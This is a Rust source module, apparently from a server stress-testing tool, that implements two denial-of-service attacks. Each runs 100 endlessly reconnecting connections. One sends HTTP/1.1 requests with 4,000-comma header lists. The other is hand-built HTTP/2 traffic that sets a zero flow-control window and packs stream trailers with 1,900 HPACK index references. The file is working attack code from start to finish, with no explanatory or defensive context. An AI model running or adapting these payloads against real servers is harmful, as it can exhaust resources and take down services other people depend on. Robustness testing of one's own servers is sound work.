//! Attacks that no other tool provides. Each runs in a separate process until it is killed.

use std::{
    io::{Read, Write},
    net::{SocketAddr, TcpStream},
    thread,
    time::Duration,
};

/// Connections that an attacker opens.
const CONNECTIONS: usize = 100;
/// Pause before a closed connection is opened again.
const RECONNECT_INTERVAL: Duration = Duration::from_millis(100);

/// Runs the attack with this name.
///
/// # Panics
/// If there is no such attack.
pub(crate) fn run(name: &str, addr: &str) {
    let addr: SocketAddr = addr.parse().expect("an address");
    let bytes = match name {
        "streams" => streams(),
        "commas" => commas(),
        _ => panic!("there is no attack {name}"),
    };
    thread::scope(|scope| {
        for _ in 0..CONNECTIONS {
            scope.spawn(|| {
                loop {
                    // After an error the attack starts again.
                    let _ = send_repeatedly(addr, &bytes);
                    thread::sleep(RECONNECT_INTERVAL);
                }
            });
        }
    });
}

/// Opens a connection and sends the bytes again after each response, in HTTP/2 only once, until the server closes the
/// connection. Discards the responses.
fn send_repeatedly(addr: SocketAddr, bytes: &[u8]) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(addr)?;
    let mut response = vec![0; 1 << 16];
    loop {
        stream.write_all(bytes)?;
        if stream.read(&mut response)? == 0 {
            return Ok(());
        }
        // In HTTP/2 the bytes are sent once, and the connection stays open.
        if bytes.starts_with(b"PRI") {
            while stream.read(&mut response)? > 0 {}
            return Ok(());
        }
    }
}

/// Requests for the page with lists of 4,000 empty items.
fn commas() -> Vec<u8> {
    let commas = ",".repeat(4_000);
    format!(
        "GET / HTTP/1.1\r\nHost: site\r\nAccept-Encoding: {commas}\r\nIf-None-Match: {commas}\r\n\r\n"
    )
    .into_bytes()
}

/// 16 HTTP/2 streams with a window of 0, so that their responses cannot be sent. Each has trailers that nobody reads:
/// 1,900 fields in 1,900 bytes.
fn streams() -> Vec<u8> {
    const HEADERS: u8 = 1;
    const SETTINGS: u8 = 4;
    const END_STREAM: u8 = 1;
    const END_HEADERS: u8 = 4;
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    let mut frame = |kind: u8, flags: u8, stream: u32, content: &[u8]| {
        bytes.extend(&(content.len() as u32).to_be_bytes()[1..]);
        bytes.extend([kind, flags]);
        bytes.extend(stream.to_be_bytes());
        bytes.extend(content);
    };
    // SETTINGS_INITIAL_WINDOW_SIZE is 0.
    frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
    for stream in (1..).step_by(2).take(16) {
        // `GET /` as indexes into the HPACK table.
        frame(HEADERS, END_HEADERS, stream, &[0x82, 0x86, 0x84]);
        // A field that is added to the table, and then its index.
        let mut trailers = b"\x40\x01x\x01a".to_vec();
        trailers.extend([0xbe; 1_900]);
        frame(HEADERS, END_HEADERS | END_STREAM, stream, &trailers);
    }
    bytes
}
